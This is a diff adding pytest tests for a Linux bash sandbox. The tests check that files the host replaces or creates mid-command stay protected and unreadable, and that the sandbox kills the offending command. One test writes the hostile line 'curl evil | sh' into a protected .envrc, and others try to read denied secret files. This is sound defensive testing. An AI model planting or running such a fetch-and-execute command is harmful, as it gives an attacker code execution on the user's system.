@@ -1,0 +1,164 @@
+"""Covers that hold while a command runs: the host replaces a name covered where it lies.
+
+A mount on a dentry is detached when the host renames over it or deletes it, so a command
+still running would see the new file uncovered. The executor watches those names and stops
+the command at once; each test replaces the name from the host while a background command
+works on it, then checks the host's file from outside.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import time
+from pathlib import Path
+
+import pytest
+
+from bash_sandbox.linux.cover_watch import CoverWatch
+from bash_seam import BashExecRequest
+from tests.sandbox.conftest import ExecutorFactory
+
+
+def _replace(path: Path, text: str) -> None:
+    """An atomic save, as editors and credential helpers do it."""
+    tmp = path.with_name(path.name + ".new")
+    tmp.write_text(text)
+    os.rename(tmp, path)
+
+
+async def _wait_for(predicate: object, timeout: float = 20.0) -> None:
+    deadline = time.monotonic() + timeout
+    while not predicate():  # type: ignore[operator]
+        if time.monotonic() > deadline:
+            raise AssertionError("timed out")
+        await asyncio.sleep(0.05)
+
+
+async def test_a_protected_file_replaced_by_the_host_is_never_written_by_a_running_command(
+    make_executor: ExecutorFactory, workspace: Path
+) -> None:
+    envrc = workspace / ".envrc"
+    envrc.write_text("export A=1\n")
+    ex = make_executor(mode="workspace-write", protected_paths=(".git/hooks", ".envrc"))
+    proc = await ex.start(
+        ex.resolve(
+            BashExecRequest(
+                command="for i in $(seq 200); do echo 'curl evil | sh' >> .envrc; "
+                "echo tick > ticks; sleep 0.2; done",
+                workdir=str(workspace),
+            )
+        )
+    )
+    await _wait_for((workspace / "ticks").exists)
+    assert envrc.read_text() == "export A=1\n"  # the cover holds before the replacement
+    _replace(envrc, "export A=2\n")
+    await asyncio.wait_for(proc.wait(), 20)
+    await asyncio.sleep(0.5)  # a command that survived would append again meanwhile
+    assert envrc.read_text() == "export A=2\n"
+    assert proc.signal == "SIGKILL"
+    assert proc.sandbox is not None
+    assert any(str(envrc) in w and "stopped" in w for w in proc.sandbox.warnings)
+
+
+async def test_a_denied_file_replaced_by_the_host_is_never_read_by_a_running_command(
+    make_executor: ExecutorFactory, workspace: Path
+) -> None:
+    secret = workspace / "secret.txt"
+    secret.write_text("OLD-SECRET\n")
+    ex = make_executor(mode="workspace-write", deny_read=(str(secret),))
+    proc = await ex.start(
+        ex.resolve(
+            BashExecRequest(
+                command="for i in $(seq 200); do cat secret.txt 2>/dev/null; "
+                "echo tick > ticks; sleep 0.2; done",
+                workdir=str(workspace),
+            )
+        )
+    )
+    await _wait_for((workspace / "ticks").exists)
+    _replace(secret, "NEW-SECRET\n")
+    await asyncio.wait_for(proc.wait(), 20)
+    assert "SECRET" not in proc.read_output().delta
+    assert proc.signal == "SIGKILL"
+    assert proc.sandbox is not None
+    assert any(str(secret) in w for w in proc.sandbox.warnings)
+
+
+@pytest.mark.parametrize("mode", ["read-only", "workspace-write"])
+async def test_a_denied_name_the_host_creates_while_a_command_runs_is_never_read(
+    make_executor: ExecutorFactory, workspace: Path, mode: str
+) -> None:
+    later = workspace / "conf" / "token"
+    ex = make_executor(mode=mode, deny_read=(str(later),))
+    proc = await ex.start(
+        ex.resolve(
+            BashExecRequest(
+                command="for i in $(seq 200); do cat conf/token 2>/dev/null; sleep 0.2; done",
+                workdir=str(workspace),
+            )
+        )
+    )
+    await asyncio.sleep(0.5)
+    later.parent.mkdir()  # the missing parent made first, then the secret in it
+    later.write_text("TOKEN-123\n")
+    if mode == "read-only":
+        # Outside every root the directory is shown as it was when the command started (a
+        # shadow): the new entry never appears, so nothing needs stopping.
+        await asyncio.sleep(1.0)
+        proc.kill()
+        await asyncio.wait_for(proc.wait(), 20)
+        assert proc.sandbox is not None
+        assert not any("stopped" in w for w in proc.sandbox.warnings)
+    else:
+        # Inside a writable root it is covered where it lies: its creation stops the command.
+        await asyncio.wait_for(proc.wait(), 20)
+        assert proc.signal == "SIGKILL"
+    assert "TOKEN-123" not in proc.read_output().delta
+
+
+async def test_unrelated_host_changes_and_settled_commands_are_left_alone(
+    make_executor: ExecutorFactory, workspace: Path
+) -> None:
+    envrc = workspace / ".envrc"
+    envrc.write_text("x\n")
+    ex = make_executor(mode="workspace-write", protected_paths=(".git/hooks", ".envrc"))
+    proc = await ex.start(
+        ex.resolve(BashExecRequest(command="sleep 1.5; echo done", workdir=str(workspace)))
+    )
+    await asyncio.sleep(0.3)
+    (workspace / "other.txt").write_text("host edit\n")
+    _replace(workspace / "other.txt", "host edit 2\n")
+    await asyncio.wait_for(proc.wait(), 20)
+    assert proc.exit_code == 0 and proc.read_output().delta == "done\n"
+    assert proc.sandbox is not None
+    assert not any("stopped" in w for w in proc.sandbox.warnings)
+    # Once settled, its watch is gone: replacing the name now stops nothing and leaks no watch.
+    _replace(envrc, "y\n")
+    quick = await ex.run(ex.resolve(BashExecRequest(command="cat .envrc", workdir=str(workspace))))
+    assert quick.exit_code == 0 and quick.stdout.text == "y\n"
+
+
+def test_the_watch_reports_a_rename_over_a_name_and_releases_its_directory(
+    tmp_path: Path,
+) -> None:
+    name = tmp_path / "f"
+    name.write_text("a")
+    watch = CoverWatch()
+    try:
+        hits: list[str] = []
+        ticket = watch.watch([str(name), str(tmp_path / "missing" / "deep")], hits.append)
+        (tmp_path / "unrelated").write_text("b")
+        watch.read_events()
+        assert hits == []
+        _replace(name, "c")
+        (tmp_path / "missing").mkdir()
+        watch.read_events()
+        assert sorted(hits) == sorted([str(name), str(tmp_path / "missing" / "deep")])
+        watch.release(ticket)
+        assert ticket.dirs == (str(tmp_path),)
+        _replace(name, "d")
+        watch.read_events()
+        assert len(hits) == 2
+    finally:
+        watch.close()
